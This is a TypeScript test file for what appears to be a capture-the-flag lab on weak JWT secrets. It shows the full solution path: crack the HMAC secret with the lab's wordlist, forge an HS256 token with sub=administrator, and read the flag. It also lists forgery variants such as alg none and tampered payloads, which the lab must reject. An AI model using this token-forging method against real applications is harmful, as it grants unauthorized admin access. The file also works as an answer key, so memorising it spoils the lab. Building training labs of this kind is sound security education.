import { createHmac } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

type Lab = Awaited<ReturnType<typeof startTestLab>>;

const b64 = (value: unknown) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

/** An HS256 token built by the test itself, as an attacker's own tool would. */
function hs256(payload: unknown, secret: string, header: unknown = { alg: 'HS256', typ: 'JWT' }): string {
  const input = `${b64(header)}.${b64(payload)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

async function signIn(lab: Lab): Promise<string> {
  const account = await lab.post('/login', { username: 'wiener', password: 'peter' });
  expect(account.body).toContain('Signed in as <strong>wiener</strong>');
  const token = lab.jar.get('session')!;
  expect(account.body).toContain(`<pre>${token}</pre>`);
  return token;
}

function admin(lab: Lab, token: string) {
  return lab.editor({ method: 'GET', path: '/admin', headers: `Cookie: session=${token}` });
}

describe('lab web-jwt-weak-secret', () => {
  let lab: Lab;
  afterEach(() => lab.close());

  it('is solved by cracking the secret with the wordlist and signing sub=administrator', async () => {
    lab = await startTestLab('web-jwt-weak-secret');
    const token = await signIn(lab);
    const [header, payload] = token.split('.').map((part) => Buffer.from(part, 'base64url').toString());
    expect(JSON.parse(header!)).toEqual({ alg: 'HS256', typ: 'JWT' });
    expect(JSON.parse(payload!)).toMatchObject({ sub: 'wiener' });

    // The phone route: the helper tries the app's own wordlist.
    const cracked = await lab.post('/jwt/crack', { token, words: '' });
    const secret = /signed with <code>([^<]+)<\/code>/.exec(cracked.body)?.[1];
    expect(secret).toBeTruthy();
    // The secret is genuinely the HMAC key of the token, and on the published list.
    const wordlist = await lab.get('/wordlist.txt');
    const words = wordlist.body.trim().split('\n');
    expect(words.length).toBeGreaterThanOrEqual(40);
    expect(words.length).toBeLessThanOrEqual(100);
    expect(words).toContain(secret);
    expect(hs256(JSON.parse(payload!), secret!)).toBe(token);

    const signed = await lab.post('/jwt/sign', { payload: '{"sub":"administrator"}', secret: secret! });
    const forged = /Signed<\/h2><pre>([^<]+)<\/pre>/.exec(signed.body)?.[1];
    expect(forged).toBe(hs256({ sub: 'administrator' }, secret!));

    const answer = await admin(lab, forged!);
    expect(answer.body).toContain('Welcome, administrator.');
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it('refuses alg none, a tampered payload, a wrong secret, and wiener himself', async () => {
    lab = await startTestLab('web-jwt-weak-secret');
    const token = await signIn(lab);
    const [header, , signature] = token.split('.');
    const variants = [
      // alg none, with and without the old signature
      `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'administrator' })}.`,
      `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'administrator' })}.${signature}`,
      `${b64({ alg: 'None' })}.${b64({ sub: 'administrator' })}.`,
      // the payload changed, the signature kept
      `${header}.${b64({ sub: 'administrator' })}.${signature}`,
      // signed with words that are not the secret
      ...['not-the-secret', 'secret123'].map((s) => hs256({ sub: 'administrator' }, s)),
    ];
    for (const forged of variants) {
      const answer = await admin(lab, forged);
      expect(answer.body).toContain('HTTP/1.1 401');
      expect(answer.body).not.toContain(lab.flag);
    }
    const none = await admin(lab, variants[0]!);
    expect(none.body).toContain('only HS256 is accepted');

    // wiener's genuine token is valid but not an administrator's.
    const wiener = await lab.get('/admin');
    expect(wiener.status).toBe(403);
    expect(wiener.body).not.toContain(lab.flag);
  });

  it('keeps the wordlist helper bounded and honest about a miss', async () => {
    lab = await startTestLab('web-jwt-weak-secret');
    const token = await signIn(lab);
    const miss = await lab.post('/jwt/crack', { token, words: 'alpha\nbeta\ngamma' });
    expect(miss.body).toContain('None of the 3 words signs this token.');
    const tooMany = await lab.post('/jwt/crack', {
      token,
      words: Array.from({ length: 101 }, (_, i) => `w${i}`).join('\n'),
    });
    expect(tooMany.body).toContain('Too many words');
    expect(tooMany.body).not.toContain(lab.flag);
  });
});
